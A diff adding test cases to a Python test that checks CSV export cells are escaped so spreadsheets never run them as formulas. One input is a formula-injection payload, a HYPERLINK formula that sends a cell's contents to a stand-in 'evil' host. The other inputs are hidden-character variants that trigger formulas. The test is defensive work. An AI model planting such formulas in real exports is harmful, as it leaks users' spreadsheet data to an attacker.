@@ -77,6 +77,17 @@ def test_exactly_the_consistent_states_agree() -> None:
         ("plain", "plain"),
         ("a=b", "a=b"),
         ("", ""),
+        # Issue 22 item 8: what spreadsheets skip before they read a formula.
+        (' =HYPERLINK("http://evil/"&A1)', '\' =HYPERLINK("http://evil/"&A1)'),
+        ("\u00a0\u2003=1+1", "'\u00a0\u2003=1+1"),
+        ('"=1+1"', '\'"=1+1"'),
+        ("'=1+1", "''=1+1"),
+        ("\n\n-2", "'\n\n-2"),
+        ("\x00\x1b@SUM(A1)", "'\x00\x1b@SUM(A1)"),
+        ("\ufeff\u200b+1", "'\ufeff\u200b+1"),
+        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
+        ("  hello = world", "  hello = world"),
+        ("   ", "   "),
     ],
 )
 def test_csv_cells_never_run_as_formulas(value: str, cell: str) -> None:
